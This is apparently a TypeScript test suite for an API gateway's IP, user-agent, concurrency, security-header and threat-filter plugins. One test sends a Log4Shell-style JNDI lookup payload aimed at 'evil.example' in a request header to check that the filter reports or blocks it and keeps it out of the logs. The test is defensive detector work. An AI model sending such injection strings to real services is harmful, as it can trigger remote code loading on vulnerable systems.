import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { startGateway } from '../world.ts'
import { everyDoor } from './grpc-doors.ts'

const consumers = [{ id: 'acme', keys: [{ hash: `sha256:${'0'.repeat(64)}` }] }]

for (const door of everyDoor) {
  describe(`the edge at the ${door.name} door`, () => {
    for (const where of ['the global list', 'the list of the place'] as const) {
      test(`ipAccess in ${where} refuses before anybody asks who it is`, async (t) => {
        const backend = await door.start(t)
        const plugins = [{ ipAccess: { deny: ['203.0.113.0/24'] } }]
        const place = { auth: 'required', ...(where === 'the global list' ? {} : { plugins }) } as const
        const gateway = await startGateway(t, {
          ...(where === 'the global list' ? { plugins } : {}),
          server: { trustedProxies: ['127.0.0.1'] },
          ...backend.config(place),
          consumers,
        })
        const told: unknown[] = []
        for (const address of ['203.0.113.9', '::ffff:203.0.113.9', '198.51.100.1']) {
          const reply = await backend.ask(gateway.url, { 'X-Forwarded-For': address })
          told.push([reply.status, backend.reason(await reply.text())])
        }
        const refusal = [403, 'ADDRESS_REFUSED']
        assert.deepEqual(told, [refusal, refusal, [401, 'NO_CREDENTIALS']])
        assert.equal(backend.seen.length, 0)
      })
    }

    test('userAgent refuses a client by what it calls itself', async (t) => {
      const backend = await door.start(t)
      const plugins = [{ userAgent: { deny: ['bad-bot'] } }]
      const gateway = await startGateway(t, { ...backend.config({ auth: 'required', plugins }), consumers })
      const refused = await backend.ask(gateway.url, { 'User-Agent': 'Bad-Bot/1.0' })
      assert.deepEqual([refused.status, backend.reason(await refused.text())], [403, 'AGENT_REFUSED'])
      const other = await backend.ask(gateway.url, { 'User-Agent': 'shop/1.0' })
      assert.equal(other.status, 401)
      await other.text()
      assert.equal(backend.seen.length, 0)
    })

    test('concurrency refuses one too many, and lets it pass when another is done', async (t) => {
      const backend = await door.start(t)
      const done = Promise.withResolvers<void>()
      backend.behaviour.until = done.promise
      const plugins = [{ concurrency: { max: 1, by: 'ip' } }]
      const gateway = await startGateway(t, backend.config({ auth: 'none', plugins }))
      const both = [backend.ask(gateway.url), backend.ask(gateway.url)]
      const refused = await Promise.race(both)
      assert.deepEqual([refused.status, backend.reason(await refused.text())], [429, 'TOO_MANY_AT_ONCE'])
      assert.equal(refused.headers.get('retry-after'), '1')
      done.resolve()
      const replies = await Promise.all(both)
      assert.deepEqual(replies.map((reply) => reply.status).sort(), [200, 429])
      await replies.find((reply) => reply.status === 200)?.text()
      // Its slot is free once the gateway knows that the answer is taken.
      for (;;) {
        const next = await backend.ask(gateway.url)
        await next.text()
        if (next.status === 200) break
      }
    })

    test('securityHeaders are on answers and refusals', async (t) => {
      const backend = await door.start(t)
      const gateway = await startGateway(t, {
        plugins: ['securityHeaders', { userAgent: { deny: ['bad-bot'] } }],
        ...backend.config({ auth: 'none' }),
      })
      for (const [agent, status] of [
        ['shop/1.0', 200],
        ['bad-bot', 403],
      ] as const) {
        const reply = await backend.ask(gateway.url, { 'User-Agent': agent })
        await reply.text()
        assert.equal(reply.status, status)
        assert.equal(reply.headers.get('x-content-type-options'), 'nosniff')
        assert.equal(reply.headers.get('x-frame-options'), 'DENY')
        assert.equal(reply.headers.get('strict-transport-security'), null)
      }
    })

    test('threatFilter reports by default, and refuses when it is told to block', async (t) => {
      const backend = await door.start(t)
      const headers = { 'X-Note': ['$', '{jndi:ldap://evil.example/a}'].join('') }
      for (const mode of ['report', 'block'] as const) {
        const gateway = await startGateway(t, {
          plugins: [
            'accessLog',
            'metrics',
            { threatFilter: { headers: ['x-note'], ...(mode === 'report' ? {} : { mode }) } },
          ],
          ...backend.config({ auth: 'none' }),
        })
        const reply = await backend.ask(gateway.url, headers)
        const text = await reply.text()
        if (mode === 'report') assert.equal(reply.status, 200)
        else assert.deepEqual([reply.status, backend.reason(text)], [403, 'THREAT_REFUSED'])
        const line = await gateway.logged((entry) => entry['threat.score'] !== undefined)
        assert.equal(line['threat.rules'], 'lookup')
        assert.ok(!JSON.stringify(gateway.logs).includes('evil.example'))
        assert.match(
          await gateway.gateway.metrics.metrics(),
          new RegExp(`gateway_threats_total\\{rule="lookup",outcome="${mode}ed"\\} 1`),
        )
      }
      assert.equal(backend.seen.length, 1)
    })
  })
}
